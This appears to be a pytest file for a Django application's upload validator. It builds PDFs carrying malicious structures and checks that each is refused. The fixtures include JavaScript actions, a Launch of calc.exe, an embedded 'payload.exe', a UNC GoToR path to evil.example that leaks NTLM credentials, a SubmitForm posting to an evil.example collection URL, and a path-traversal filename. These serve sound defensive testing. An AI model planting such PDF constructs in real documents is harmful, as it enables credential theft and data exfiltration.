"""Scans: PDFs with scripts or embedded files are refused; stored names do not repeat their prefix (old ones still
open); every download and export is marked no-store."""

import io
import re
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from greenfactory.uploads import GeneratedName, check_upload
from tests.helpers import filled

pytestmark = pytest.mark.django_db


def _pdf(build=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _js_action():
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                             NameObject("/JS"): TextStringObject("app.alert(1)")})


def _document_js(writer):
    # A document-level script in the name tree (what pypdf's former add_js wrote).
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"),
                                                                 writer._add_object(_js_action())])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(names)})


def _open_action_js(writer):
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_js_action())


def _page_additional_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(_js_action())})


def _launch_link(writer):
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([]),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                            NameObject("/F"): TextStringObject("calc.exe")}),
    })
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _attachment(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00")


def _upload(content, name="scan.pdf"):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


@pytest.mark.parametrize("build", [_document_js, _open_action_js, _page_additional_action, _launch_link])
def test_a_pdf_with_a_script_or_an_automatic_action_is_refused_as_a_scan(build):
    with pytest.raises(ValidationError) as error:
        check_upload(_upload(_pdf(build)))
    assert error.value.code == "pdf_active_content"
    assert "JavaScript" in error.value.messages[0]


def test_a_pdf_with_an_embedded_file_is_refused_as_a_scan():
    with pytest.raises(ValidationError) as error:
        check_upload(_upload(_pdf(_attachment)))
    assert error.value.code == "pdf_embedded_file"
    assert "内嵌" in error.value.messages[0]


def test_a_script_name_spelt_with_hex_escapes_is_found_too():
    content = _pdf(_open_action_js).replace(b"/JavaScript", b"/J#61vaScript")
    with pytest.raises(ValidationError) as error:
        check_upload(_upload(content))
    assert error.value.code == "pdf_active_content"


def _action(kind, **entries):
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


UNC = TextStringObject("\\\\evil.example\\share\\x.pdf")
# Actions that need no script to do harm: a remote file on a UNC path (the reader sends its NTLM credentials), a
# form posted to a URL, a web address, an embedded or launched file, imported data, media played.
HARMFUL_ACTIONS = {
    "GoToR UNC": lambda: _action("/GoToR", F=UNC, D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
    "SubmitForm": lambda: _action("/SubmitForm", F=DictionaryObject({NameObject("/FS"): NameObject("/URL"),
                                                                     NameObject("/F"): TextStringObject(
                                                                         "https://evil.example/collect")})),
    "URI": lambda: _action("/URI", URI=TextStringObject("https://evil.example/")),
    "GoToE": lambda: _action("/GoToE", T=DictionaryObject({NameObject("/R"): NameObject("/C")})),
    "Launch": lambda: _action("/Launch", F=TextStringObject("calc.exe")),
    "ImportData": lambda: _action("/ImportData", F=UNC),
    "Rendition": lambda: _action("/Rendition", OP=NumberObject(0)),
    "Sound": lambda: _action("/Sound", Sound=DictionaryObject()),
    "Movie": lambda: _action("/Movie", T=TextStringObject("clip")),
    "Named": lambda: _action("/Named", N=NameObject("/Print")),
}


def _on_open(action):
    def build(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return build


def _on_page_open(action):
    def build(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    return build


def _as_link(action, key="/A"):
    def build(writer):
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
            NameObject(key): action,
        })
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return build


def _internal_jump(writer):
    return _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]))


@pytest.mark.parametrize("make", list(HARMFUL_ACTIONS.values()), ids=list(HARMFUL_ACTIONS))
@pytest.mark.parametrize("place", [_on_open, _on_page_open, _as_link], ids=["OpenAction", "AA", "link"])
def test_a_pdf_with_an_action_other_than_an_internal_jump_is_refused_as_a_scan(make, place):
    with pytest.raises(ValidationError) as error:
        check_upload(_upload(_pdf(place(make()))))
    assert error.value.code == "pdf_active_content"


@pytest.mark.parametrize("name", ["/GoToR", "/SubmitForm", "/Launch"])
def test_an_action_type_spelt_with_hex_escapes_is_found_too(name):
    content = _pdf(_as_link(HARMFUL_ACTIONS[name[1:] if name != "/GoToR" else "GoToR UNC"]()))
    escaped = name[:2] + f"#{ord(name[2]):02x}" + name[3:]
    content = content.replace(name.encode(), escaped.encode())
    assert escaped.encode() in content
    with pytest.raises(ValidationError) as error:
        check_upload(_upload(content))
    assert error.value.code == "pdf_active_content"


def test_an_action_chained_after_an_internal_jump_is_refused():
    def build(writer):
        jump = _internal_jump(writer)
        jump[NameObject("/Next")] = HARMFUL_ACTIONS["GoToR UNC"]()
        _as_link(jump)(writer)

    with pytest.raises(ValidationError):
        check_upload(_upload(_pdf(build)))


def test_any_automatic_action_is_refused_even_an_internal_jump():
    def on_open_jump(writer):
        _on_open(_internal_jump(writer))(writer)

    def on_page_jump(writer):
        _on_page_open(_internal_jump(writer))(writer)

    for build in (on_open_jump, on_page_jump):
        with pytest.raises(ValidationError) as error:
            check_upload(_upload(_pdf(build)))
        assert error.value.code == "pdf_active_content"


def test_a_scan_with_internal_links_and_an_opening_view_is_accepted():
    def build(writer):
        _as_link(_internal_jump(writer))(writer)
        # A destination (open at page 1, fit to window) is not an action: scanning software writes it.
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference,
                                                                      NameObject("/Fit")])
        # /S names that are not actions: a page transition, a transparency group, page labels.
        writer.pages[0][NameObject("/Trans")] = DictionaryObject({NameObject("/S"): NameObject("/Dissolve")})
        writer.pages[0][NameObject("/Group")] = DictionaryObject({NameObject("/S"): NameObject("/Transparency")})
        writer._root_object[NameObject("/PageLabels")] = DictionaryObject({NameObject("/Nums"): ArrayObject(
            [NumberObject(0), DictionaryObject({NameObject("/S"): NameObject("/D")})])})

    assert check_upload(_upload(_pdf(build))).kind == "pdf"
    assert check_upload(_upload(_pdf())).kind == "pdf"


# --- Stored names --------------------------------------------------------------------------------------------------

SHANGHAI = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def submitted_case(people, media):
    from applications import services
    from applications.models import CultivationCampaign
    with time_machine.travel(datetime(2026, 11, 2, 10, 0, tzinfo=SHANGHAI), tick=False):
        campaign = CultivationCampaign.objects.create(
            year=2026, title="2026年绿色工厂培育工作", opens_on=date(2026, 10, 20), deadline=date(2026, 11, 15),
            key_sectors=["chemicals"], created_by=people.city)
        application = services.intake_submit(application=filled(campaign, people.enterprise),
                                             actor=people.enterprise)
        services.scan_upload(application=application, actor=people.enterprise, uploaded_file=_upload(_pdf()))
    return application


def test_a_stored_scan_name_holds_its_prefix_and_month_once(submitted_case):
    scan = submitted_case.scans.get()
    assert re.fullmatch(r"intake-scans/2026/11/[0-9a-f]{32}\.pdf", scan.file.name), scan.file.name
    assert default_storage.exists(scan.file.name)


def test_the_generated_name_ignores_whatever_name_it_is_given():
    name = GeneratedName("intake-scans")(None, "intake-scans/2026/11/../../etc/passwd.PDF")
    assert re.fullmatch(r"intake-scans/\d{4}/\d{2}/[0-9a-f]{32}\.pdf", name)
    assert GeneratedName("intake-scans")(None, "no extension").endswith(".bin")


def test_a_scan_stored_under_an_old_doubled_name_still_downloads(client, people, submitted_case):
    from applications.models import StampedScan

    scan = submitted_case.scans.get()
    old_name = "intake-scans/2026/11/intake-scans/2026/11/0123456789abcdef0123456789abcdef.pdf"
    content = _pdf()
    default_storage.save(old_name, ContentFile(content))
    import hashlib

    old = StampedScan.objects.create(application=submitted_case, file=old_name, original_name="旧.pdf", version=2,
                                     content_type="application/pdf", size=len(content),
                                     sha256=hashlib.sha256(content).hexdigest(), uploaded_by=scan.uploaded_by)
    client.force_login(people.district)
    response = client.get(reverse("applications:scan_download", args=[submitted_case.public_id, old.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content


# --- no-store on downloads and exports ------------------------------------------------------------------------------


def test_the_pdf_the_scan_and_the_excel_export_are_not_stored(client, people, submitted_case):
    scan = submitted_case.scans.get()
    client.force_login(people.district)
    for url in (reverse("applications:intake_pdf", args=[submitted_case.public_id]),
                reverse("applications:scan_download", args=[submitted_case.public_id, scan.pk]),
                reverse("applications:library_export")):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
        assert response["Content-Disposition"].startswith("attachment"), url
